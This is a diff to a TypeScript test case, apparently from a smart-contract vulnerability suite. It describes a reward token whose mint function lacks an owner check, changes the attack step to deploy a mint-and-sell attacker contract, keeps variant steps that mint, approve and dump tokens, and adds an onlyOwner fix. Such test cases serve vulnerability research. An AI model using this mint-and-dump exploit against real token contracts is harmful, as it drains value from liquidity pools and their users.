@@ -1,6 +1,6 @@
 import { declareCase } from '../lib/declare-case.ts'
 import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
-import { actor, call, reverting, strike, through } from '../lib/steps.ts'
+import { actor, call, create, reverting, strike, through } from '../lib/steps.ts'
 
 const NAME = 'reward-token'
 const signer = actor(`${NAME}/owner's signer`)
@@ -9,7 +9,8 @@ const attacker = actor(`${NAME}/attacker`)
 const users = crowd(NAME, 8)
 
 export default declareCase({
-  about: 'a capped token forgot to restrict minting to its owner, a contract wallet; the attacker sells what it mints',
+  about:
+    'a capped token forgot to restrict minting to its owner, a contract wallet; the attacker sells what it mints',
   class: 'access-control',
   hardfork: 'london',
   units: [
@@ -73,12 +74,9 @@ export default declareCase({
     ]
   },
 
-  attack: ({ token, pair }, { MintAndSell }) =>
-    strike(attacker, MintAndSell!, {
-      args: [],
-      run: 'run',
-      with: [token.address, pair.address, 7_000_000n * ETHER, 1n],
-    }),
+  attack: ({ token, pair }, { MintAndSellAtOnce }) => [
+    create(attacker, MintAndSellAtOnce!, [token.address, pair.address, 7_000_000n * ETHER]),
+  ],
   variants: ({ token, pair }, { MintAndSell }) => [
     strike(attacker, MintAndSell!, {
       args: [],
@@ -90,5 +88,12 @@ export default declareCase({
       call(attacker, token, 'approve', [pair.address, 1_000_000n * ETHER]),
       call(attacker, pair, 'sellTokens', [1_000_000n * ETHER, 0n]),
     ],
+  ],
+  fix: [
+    {
+      file: 'RewardToken.sol',
+      replace: 'function mint(address to, uint256 value) public returns',
+      by: 'function mint(address to, uint256 value) public onlyOwner returns',
+    },
   ],
 })
